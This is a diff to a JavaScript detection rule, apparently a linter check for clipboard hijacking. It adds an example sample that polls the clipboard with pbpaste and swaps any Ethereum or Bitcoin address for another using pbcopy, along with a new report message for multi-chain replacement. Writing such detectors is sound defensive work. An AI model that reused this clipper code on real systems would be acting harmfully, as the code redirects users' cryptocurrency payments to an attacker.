@@ -45,6 +45,16 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'programs of the system read what was copied, and copy an address of the same chain',
+        code: `import { execFileSync } from 'node:child_process';
+const own = [[/^0x[a-fA-F0-9]{40}$/, '0x0000000000000000000000000000000000000000'], [/^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/, '1111111111111111111114oLvT2']];
+setInterval(() => {
+  const copied = execFileSync('pbpaste', { encoding: 'utf8' });
+  const found = own.find(([pattern]) => pattern.test(copied));
+  if (found) execFileSync('pbcopy', { input: found[1] });
+}, 500);`,
+      },
+      {
         title: 'the clipboard is watched',
         code: `const clipboard = require('clipboardy');\nconst eth = /0x[a-fA-F0-9]{40}/, btc = /[13][a-km-zA-HJ-NP-Z1-9]{25,34}/;\nsetInterval(() => {\n  const text = clipboard.readSync();\n  if (eth.test(text) || btc.test(text)) clipboard.writeSync(mine);\n}, 500);`,
       },
@@ -171,9 +181,11 @@ export default defineRule({
     }
     const write = clipboardCalls(context, WRITES)[0];
     const read = clipboardCalls(context, READS)[0];
+    // An application's own contracts are of one chain; addresses of several, beside the patterns of them, take their place.
+    const isOwnOfEach = kinds > 1 && literals > 1;
     if (write && read)
       context.report({
-        messageId: 'clipboard',
+        messageId: isOwnOfEach ? 'replaces' : 'clipboard',
         chain: [step('source', 'reads the clipboard', file, read.node), step('sink', 'writes it', file, write.node)],
       });
   },
